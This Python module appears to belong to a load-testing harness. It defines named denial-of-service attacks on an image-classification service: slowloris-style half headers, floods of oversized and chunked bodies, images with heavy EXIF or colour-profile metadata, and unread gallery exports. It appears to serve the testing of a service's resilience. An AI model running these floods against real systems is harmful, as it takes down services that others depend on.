"""The attacks by name: each opens connections to a service and holds or floods them until it is cancelled."""

import select
from collections.abc import Callable
from contextlib import suppress
from multiprocessing.synchronize import Event
from typing import Final

import gevent
from gevent import socket

from loadtests.attacks.payloads import noise, png_with_exif, png_with_profiles, progressive_jpeg
from loadtests.generator.client import ServiceClient
from loadtests.requests import BROKEN, FORM_TYPE, Request, form_request

# Announced sizes of bodies, and how much is sent.
BATCH_BODY: Final = 63 * 2**20
GALLERY_BODY: Final = 9 * 2**20
SENT: Final = 60_000_000
PIECE: Final = 65_536
HALF_HEAD: Final = b"POST /classify HTTP/1.1\r\nHost: here\r\nX-Padding: "
CHUNKED_HEAD: Final = (
    b"POST /classify/batch HTTP/1.1\r\nHost: %b\r\nContent-Type: "
    + FORM_TYPE.encode()
    + b"\r\nTransfer-Encoding: chunked\r\n\r\n"
)
HALF_HEADS: Final = 500
BATCH_IMAGES: Final = 256
EXPORTED: Final = 24
# Pause before a connection that the server closed is opened again.
RECONNECT_SECONDS: Final = 0.02
# How long a response is waited for; an attack is over before.
TIMEOUT_SECONDS: Final = 3600.0

Attacker = Callable[[ServiceClient], None]
"""Attacks over one connection; returns when the service closes it or does not answer, and is then called again."""


def flood(make_head: Callable[[str], bytes], piece: bytes = bytes(PIECE), size: int = SENT) -> Attacker:
    """Make an attacker that sends a head, given the host, and ``size`` bytes of a repeated piece as fast as they are read."""

    def attack(client: ServiceClient) -> None:
        with client.connect() as connection, suppress(OSError):
            response = gevent.spawn(_wait_for_response, connection)
            connection.sendall(make_head(client.host))
            for _ in range(size // len(piece)):
                connection.sendall(piece)
                if response.ready():
                    break
            response.join()

    return attack


def _wait_for_response(connection: socket.socket) -> None:
    """Wait until the service responds or closes the connection."""
    with suppress(OSError):
        connection.recv(1)


def half_heads(client: ServiceClient) -> None:
    """Hold 500 connections with half a head each until the service closes them."""
    hold = flood(lambda _host: HALF_HEAD, size=0)
    gevent.joinall([gevent.spawn(_attack_once, hold, client) for _ in range(HALF_HEADS)])


def repeat(path: str, images: list[bytes], field: str = "image") -> Attacker:
    """Make an attacker that posts the same form again as soon as it is answered."""
    request = form_request(path, images, path, field)

    def attack(client: ServiceClient) -> None:
        while client.send(request).status != BROKEN and client.open_connections:
            pass

    return attack


def unread_export(client: ServiceClient) -> None:
    """Request the gallery's export and do not read it."""
    with client.connect() as connection:
        connection.sendall(Request("export", "/gallery/export", method="GET").encode(client.host))
        closed = select.poll()
        closed.register(connection.fileno(), select.POLLRDHUP)
        while not closed.poll(0):
            gevent.sleep(RECONNECT_SECONDS)


def fill_gallery(client: ServiceClient) -> None:
    """Save large images for the export.

    Raises:
        RuntimeError: one was not saved.
    """
    request = form_request("save", [noise()], "/gallery")
    for _ in range(EXPORTED):
        if (response := client.send(request)).status != 201:
            raise RuntimeError(f"An image was not saved: {response.body!r}. The export cannot be attacked.")


ATTACKS: Final[dict[str, Attacker]] = {
    "bodies": flood(Request("body", "/classify/batch", content_type=FORM_TYPE, content_length=BATCH_BODY).encode),
    "chunked-bodies": flood(lambda host: CHUNKED_HEAD % host.encode(), f"{PIECE:x}\r\n".encode() + bytes(PIECE) + b"\r\n"),
    "gallery-bodies": flood(
        Request("body", "/gallery", content_type="image/png", content_length=GALLERY_BODY).encode, size=GALLERY_BODY - PIECE
    ),
    "exif": repeat("/classify", [png_with_exif()]),
    "nested-exif": repeat("/classify", [png_with_exif(nested=True)]),
    "profiles": repeat("/classify", [png_with_profiles()]),
    "exif-batches": repeat("/classify/batch", [png_with_exif(tags=3000)] * BATCH_IMAGES, "images"),
    "scan-batches": repeat("/classify/batch", [progressive_jpeg()] * BATCH_IMAGES, "images"),
    "headers": flood(lambda _host: HALF_HEAD, b"x" * PIECE),
    "half-heads": half_heads,
    "exports": unread_export,
}
# What is sent once before an attack.
PREPARATIONS: Final = {"exports": fill_gallery}


def keep_attacking(attack: Attacker, address: str) -> None:
    """Attack over one connection until killed; when it ends, it is replaced."""
    client = ServiceClient(address, 1, TIMEOUT_SECONDS)
    while True:
        _attack_once(attack, client)
        gevent.sleep(RECONNECT_SECONDS)


def _attack_once(attack: Attacker, client: ServiceClient) -> None:
    with suppress(OSError):
        attack(client)


def run_attack(name: str, address: str, connections: int, started: Event) -> None:
    """Attack until killed; runs in a process of its own, so that it does not delay the measurement."""
    started.set()
    with suppress(KeyboardInterrupt):
        gevent.joinall([gevent.spawn(keep_attacking, ATTACKS[name], address) for _ in range(connections)], raise_error=True)
